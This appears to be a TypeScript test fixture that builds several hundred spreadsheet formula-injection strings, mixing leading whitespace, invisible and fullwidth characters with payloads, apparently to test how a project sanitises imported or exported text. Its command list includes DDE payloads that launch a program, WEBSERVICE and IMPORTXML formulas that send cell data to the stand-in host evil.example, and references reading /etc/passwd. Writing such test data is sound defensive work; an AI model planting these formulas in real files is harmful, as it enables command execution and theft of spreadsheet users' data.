// Three hundred texts that spreadsheets would run, or that files lose or change on the way.

const commands = [
  '=1+1',
  '=HYPERLINK("http://evil.example","Xem")',
  "=cmd|'/C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '=WEBSERVICE("http://evil.example/?q="&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("soffice";"/etc/passwd";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  '-1+cmd|x!A0',
  '+84901234567',
]

const fronts = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  "'",
  "''",
  '"',
  '""',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u0001',
  '\u001f',
]

const wide = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1', '﹢1', '﹣1+1', '﹫A1']

const awkward = [
  "'",
  '"',
  "'quoted'",
  '"=1+1"',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1,"b"',
  '";=1+1;"',
  '",=1+1,"',
  '=',
  '+',
  '-',
  '@',
  '==1',
  '<f>1+1</f>',
  '</t></si><si><t>x',
  '&lt;f&gt;',
  '_x003D_1+1',
  '_x0041_',
  '__proto__',
  'constructor',
  'toString',
  '{=1+1}',
  '#REF!',
  'TRUE',
  '2026-01-02',
  '0012',
  '1e5',
  ' Xã có khoảng trắng ',
  'Xã Đồng Kỵ',
  'Xa\u0303 Đo\u0302\u0300ng',
  '𠀀 𝒳',
  'ẩn (a)',
]

/** Each of them different; none has NUL, which PostgreSQL refuses. */
export const formulaPayloads: string[] = [
  ...new Set([
    ...fronts.flatMap((front) => commands.map((command) => front + command)),
    ...fronts.flatMap((front) => wide.map((sign) => front + sign)),
    ...awkward,
  ]),
].slice(0, 400)
